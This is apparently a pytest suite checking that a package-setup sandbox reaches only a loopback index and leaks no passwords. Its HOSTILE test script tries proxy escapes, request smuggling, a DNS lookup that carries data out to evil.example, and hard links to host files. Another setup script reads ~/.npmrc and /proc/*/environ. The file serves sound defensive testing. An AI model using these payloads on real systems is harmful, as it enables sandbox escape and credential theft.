"""A set-up that fetches packages: real tools, from an index on loopback, and from nowhere else."""

from __future__ import annotations

import json
import os
import shutil
import socket
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import msgspec
import pytest
from package_index import TARBALL, WHEEL, PackageIndex, certificate
from setup_site import INSTALLED, Site

from podium.kernel.errors import PodiumError
from podium.project.model import Environment
from podium.testing.repositories import Files
from podium.workspaces.layers import refused_at

Build = Callable[[Files], Site]
Require = Callable[[object, str], None]


@pytest.fixture
def build(tmp_path: Path) -> Iterator[Build]:
    """`build(files)`: a project of these files."""
    programs = tmp_path / "bin"  # as a person has node and npm in a directory of their own
    programs.mkdir()
    for name, place in (("node", "bin/node"), ("npm", "lib/node_modules/npm/bin/npm-cli.js")):
        if (INSTALLED / "node-22" / place).exists():
            (programs / name).symlink_to(INSTALLED / "node-22" / place)
    path = os.pathsep.join([str(programs), str(Path(sys.executable).parent), os.environ["PATH"]])
    made: list[Site] = []

    def make(files: Files) -> Site:
        made.append(Site(tmp_path, files, path))
        return made[-1]

    yield make
    for site in made:
        site.mirror.close()


@pytest.fixture
def index() -> Iterator[PackageIndex]:
    """An index at work."""
    with PackageIndex() as index:
        yield index


def of_uv(index: PackageIndex) -> dict[str, str]:
    """A project of uv, locked."""
    project = '[project]\nname = "app"\nversion = "0"\nrequires-python = ">=3.9"\ndependencies = ["tiny"]\n'
    wheel = f'{{ url = "{index.url}/files/{WHEEL}", hash = "sha256:{index.sha256}", size = {len(index.wheel)} }}'
    lock = (
        'version = 1\nrevision = 3\nrequires-python = ">=3.9"\n\n'
        '[[package]]\nname = "app"\nversion = "0"\nsource = { virtual = "." }\ndependencies = [{ name = "tiny" }]\n\n'
        '[package.metadata]\nrequires-dist = [{ name = "tiny" }]\n\n'
        f'[[package]]\nname = "tiny"\nversion = "1.0"\nsource = {{ registry = "{index.url}/simple" }}\n'
        f"wheels = [\n    {wheel},\n]\n"
    )
    return {"pyproject.toml": project, "uv.lock": lock}


def of_npm(index: PackageIndex) -> dict[str, str]:
    """A project of npm, locked."""
    resolved = f"{index.url}/tiny/-/{TARBALL}"
    root = {"name": "app", "version": "0.0.0", "dependencies": {"tiny": "1.0.0"}}
    tiny = {"version": "1.0.0", "resolved": resolved, "integrity": index.integrity}
    lock = {**root, "lockfileVersion": 3, "requires": True, "packages": {"": root, "node_modules/tiny": tiny}}
    return {"package.json": json.dumps(root), "package-lock.json": json.dumps(lock)}


def of_pnpm(index: PackageIndex) -> dict[str, str]:
    """A project of pnpm, locked."""
    lock = (
        "lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\n"
        "importers:\n\n  .:\n    dependencies:\n      tiny:\n        specifier: 1.0.0\n        version: 1.0.0\n\n"
        f"packages:\n\n  tiny@1.0.0:\n    resolution: {{integrity: {index.integrity}}}\n\n"
        "snapshots:\n\n  tiny@1.0.0: {}\n"
    )
    return {"package.json": of_npm(index)["package.json"], "pnpm-lock.yaml": lock}


def test_uv_fills_a_layer_on_which_the_next_workspace_stands_without_a_request(
    build: Build, index: PackageIndex
) -> None:
    site = build(of_uv(index))
    site.variables["UV_DEFAULT_INDEX"] = f"{index.url}/simple"
    use = ".venv/bin/python -c 'import tiny; print(tiny.VALUE)'"
    first = site.inside(use)
    assert (first.exit_code, first.output) == (0, b"7\n"), first.output
    asked = list(index.asked)
    assert {(method, path) for method, path, _ in asked} <= {
        ("GET", f"/files/{WHEEL}"),
        ("GET", "/simple/tiny/"),
        ("HEAD", f"/files/{WHEEL}"),
    }
    assert asked
    assert site.inside(use).output == b"7\n"
    assert index.asked == asked
    assert refused_at(site.layer()) == ()


def test_npm_fills_a_layer(build: Build, index: PackageIndex, require: Require) -> None:
    site = build(of_npm(index))
    require(shutil.which("npm", path=site.variables["PATH"]), "npm")
    site.variables["npm_config_registry"] = index.url
    found = site.layer()
    assert (found / "node_modules/tiny/index.js").read_text() == "exports.value = 7\n"
    assert [path for _, path, _ in index.asked] == [f"/tiny/-/{TARBALL}"]
    assert refused_at(found) == ()


def test_pnpm_fills_a_layer(build: Build, index: PackageIndex, require: Require) -> None:
    programs = sorted(INSTALLED.glob("pnpm-*/node_modules/.bin/pnpm"))
    require(programs, "pnpm (scripts/agents pnpm)")
    site = build(of_pnpm(index))
    site.variables["PATH"] = f"{programs[-1].parent}:{site.variables['PATH']}"
    site.variables["npm_config_registry"] = index.url
    found = site.layer()
    assert (found / "node_modules/tiny/index.js").read_text() == "exports.value = 7\n"
    assert refused_at(found) == ()
    assert not (found / ".pnpm-store").exists()


HOSTILE = """\
import os, socket, sys, urllib.request
index, elsewhere = int(sys.argv[1]), int(sys.argv[2])

def proxied(words):
    with socket.create_connection(("127.0.0.1", 7412), timeout=30) as far:
        far.sendall(words.encode())
        said = b""
        while block := far.recv(4096):
            said += block
    return said.decode("latin-1")

def direct(port):
    with socket.create_connection(("127.0.0.1", port), timeout=30) as far:
        far.sendall(b"PUT /planted HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 5\\r\\n\\r\\nstuff")
        return far.recv(4096).decode("latin-1")

refused = [
    "CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n",
    f"CONNECT 127.0.0.1:{index} HTTP/1.1\\r\\n\\r\\n",
    f"CONNECT 127.0.0.1:{elsewhere} HTTP/1.1\\r\\n\\r\\n",
    "GET http://evil.example/ HTTP/1.1\\r\\nhost: evil.example\\r\\n\\r\\n",
    f"GET http://127.0.0.1:{elsewhere}/ HTTP/1.1\\r\\nhost: 127.0.0.1:{index}\\r\\n\\r\\n",
    f"GET http://localhost.:{index}/planted HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n",
    f"GET http://127.1:{index}/planted HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n",
    f"GET http://127.0.0.1:{index}@evil.example/ HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n",
    f"PUT http://127.0.0.1:{index}/planted HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 5\\r\\n\\r\\nstuff",
    f"GET http://127.0.0.1:{index}/planted HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 5\\r\\n\\r\\nstuff",
    f"GET http://127.0.0.1:{index}/planted HTTP/1.1\\r\\nhost: x\\r\\n"
    "transfer-encoding: chunked\\r\\n\\r\\n3\\r\\nabc\\r\\n0\\r\\n\\r\\n",
    f"GET http://127.0.0.1:{index}/planted HTTP/1.1\\r\\nhost: x\\r\\n bad: folded\\nPUT /planted HTTP/1.1\\r\\n\\r\\n",
]
for words in refused:
    said = proxied(words)
    assert said.startswith("HTTP/1.1 403 "), (words, said)
assert direct(index).startswith("HTTP/1.1 403 ")
first = f"GET http://127.0.0.1:{index}/one HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n"
second = first + "PUT /planted HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n"
assert proxied(second).startswith("HTTP/1.1 404 ")
for port in (elsewhere, 22):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=30)
        raise SystemExit("the host's loopback was reached")
    except ConnectionRefusedError:
        pass
try:
    socket.getaddrinfo("secret-in-a-name.evil.example", 443)
    raise SystemExit("a name was looked up")
except socket.gaierror:
    pass
for source in ("/usr/bin/env", os.path.expanduser("~/mine")):
    open(os.path.expanduser("~/mine"), "w").close()
    try:
        os.link(source, "linked")
        raise SystemExit(f"{source} was linked into the layer")
    except OSError:
        pass
os.makedirs("made")
open("made/it", "w").close()
"""


def test_a_hostile_set_up_reaches_the_index_alone_and_only_to_fetch(build: Build, index: PackageIndex) -> None:
    site = build({".podium/setup": 'exec python3 hostile.py "$INDEX" "$ELSEWHERE"\n', "hostile.py": HOSTILE})
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.settimeout(0)
        ports = {"INDEX": str(index.port), "ELSEWHERE": str(elsewhere.getsockname()[1])}
        environment = msgspec.structs.replace(site.settings.environment, env=ports)
        site.settings = msgspec.structs.replace(site.settings, environment=environment)
        site.variables["PIP_INDEX_URL"] = f"{index.url}/simple"
        found = site.layer()
        with pytest.raises(BlockingIOError):
            elsewhere.accept()
    assert [(method, path) for method, path, _ in index.asked] == [("GET", "/one")]
    told = refused_at(found)
    assert "evil.example:443: it is no package index of yours, and not in [network] allow" in told
    assert f"127.0.0.1:{index.port}: PUT is not fetching" in told
    assert site.ground.setup_facts(site.land()).refused == told
    assert [str(path.relative_to(found)) for path in found.rglob("*")] == ["made", "made/it"]


def test_a_password_for_an_index_is_used_out_here_and_never_enters(build: Build) -> None:
    word = "hunter2-of-the-index"
    script = (
        "set -e; python3 -c 'import urllib.request as u, os; "
        'ask = u.Request(os.environ["PIP_INDEX_URL"] + "tiny/", headers={"authorization": "Basic mine"}); '
        "assert u.urlopen(ask).status == 200'; "
        'env >env.txt; cat "$HOME/.npmrc" /proc/*/environ /proc/*/cmdline >rest.txt 2>/dev/null || true\n'
    )
    header = "Basic YWRhOmh1bnRlcjItb2YtdGhlLWluZGV4"
    with PackageIndex(password=header) as index:
        site = build({".podium/setup": script})
        site.variables["PIP_INDEX_URL"] = f"http://ada:{word}@127.0.0.1:{index.port}/simple/"
        found = site.layer()
        assert [given for _, _, given in index.asked] == [header]
    for text in (
        (found / "env.txt").read_text(),
        (found / "rest.txt").read_text(),
        repr(site.ground.setup_facts("main")),
    ):
        assert word not in text
        assert header.split()[1] not in text
    assert f"PIP_INDEX_URL=http://127.0.0.1:{index.port}/simple/\n" in (found / "env.txt").read_text()
    told = site.ground.setup_facts(site.land()).network
    assert f"127.0.0.1:{index.port} (http, to fetch only, your password for it is added outside)" in told


FOLLOW = """\
import os, re, urllib.request
index = os.environ["PIP_INDEX_URL"]
page = urllib.request.urlopen(index + "tiny/").read().decode()
link = re.search('href="([^"#]+)', page)[1]
open("tiny.whl", "wb").write(urllib.request.urlopen(link).read())
"""


def test_links_in_full_of_an_index_with_a_password_are_followed_with_it(build: Build, tmp_path: Path) -> None:
    context, ca_file = certificate(tmp_path)
    header = "Basic YWRhOmh1bnRlcjItb2YtdGhlLWluZGV4"
    with PackageIndex(password=header, tls=context) as index:
        index.base = index.url
        site = build({".podium/setup": "exec python3 follow.py\n", "follow.py": FOLLOW})
        site.variables["SSL_CERT_FILE"] = ca_file
        site.variables["PIP_INDEX_URL"] = f"https://ada:hunter2-of-the-index@127.0.0.1:{index.port}/simple/"
        assert (site.layer() / "tiny.whl").read_bytes() == index.wheel
        assert index.asked == [("GET", "/simple/tiny/", header), ("GET", f"/files/{WHEEL}", header)]


def test_a_set_up_that_fails_is_told_what_it_was_refused_and_which_setting_opens_it(build: Build) -> None:
    fetch = "python3 -c 'import urllib.request as u; u.urlopen(\"https://evil.example/\")'\n"
    site = build({".podium/setup": fetch})
    site.variables["HTTPS_PROXY"] = "http://ada:hunter2@proxy.example:3128"
    with pytest.raises(PodiumError) as caught:
        site.layer()
    assert "evil.example:443" in caught.value.do
    assert "[network] allow" in caught.value.do
    assert "hunter2" not in str(caught.value)
    environment = msgspec.structs.replace(site.settings.environment, setup_network=False)
    site.settings = msgspec.structs.replace(site.settings, environment=environment)
    with pytest.raises(PodiumError) as caught:
        site.layer()
    assert "setup_network = true" in caught.value.do
    assert site.ground.setup_facts(site.land()).network == ()


def test_the_projects_own_script_sets_up_where_the_settings_name_no_set_up(build: Build) -> None:
    site = build({"requirements.txt": "tiny\n"})
    site.settings = msgspec.structs.replace(site.settings, environment=Environment())
    assert site.ground.layer(site.land()) is None
    site.repository.commit({".podium/setup": "echo ready >made.txt\n"}, branch="main")
    assert (site.layer() / "made.txt").read_text() == "ready\n"


def test_a_candidate_never_builds_what_others_stand_on(build: Build) -> None:
    environment = {"setup": "cp code.txt built.txt", "lockfiles": ("lock.txt",)}
    site = build({"lock.txt": "1\n", "code.txt": "good\n"})
    settings = msgspec.structs.replace(site.settings.environment, **environment)
    site.settings = msgspec.structs.replace(site.settings, environment=settings)
    same = site.candidate({"code.txt": "evil\n"})
    assert (site.layer(same) / "built.txt").read_text() == "good\n"  # although it is the first to be built
    assert site.layer(same) == site.layer()
    other = site.candidate({"code.txt": "evil\n", "lock.txt": "2\n"})
    third = site.candidate({"code.txt": "better\n", "lock.txt": "2\n"})
    assert (site.layer(other) / "built.txt").read_text() == "evil\n"
    assert (site.layer(third) / "built.txt").read_text() == "better\n"
    before = {site.layer(other), site.layer(third), site.layer(same)}
    assert len(before) == 3
    site.repository.git("reset", "-q", "--hard", third)
    landed = site.layer()
    assert landed not in before
    assert (landed / "built.txt").read_text() == "better\n"


def test_the_index_is_a_part_of_what_names_a_layer(build: Build) -> None:
    site = build({"requirements.txt": "tiny\n"})
    keys: set[str] = set()
    for url in ("", "https://one.example/simple", "https://ada:word@one.example/simple", "https://two.example/simple"):
        site.variables["PIP_INDEX_URL"] = url
        keys.add(site.ground.layer_key(site.land()))
    environment = msgspec.structs.replace(site.settings.environment, setup_network=False)
    site.settings = msgspec.structs.replace(site.settings, environment=environment)
    keys.add(site.ground.layer_key(site.land()))
    assert len(keys) == 5
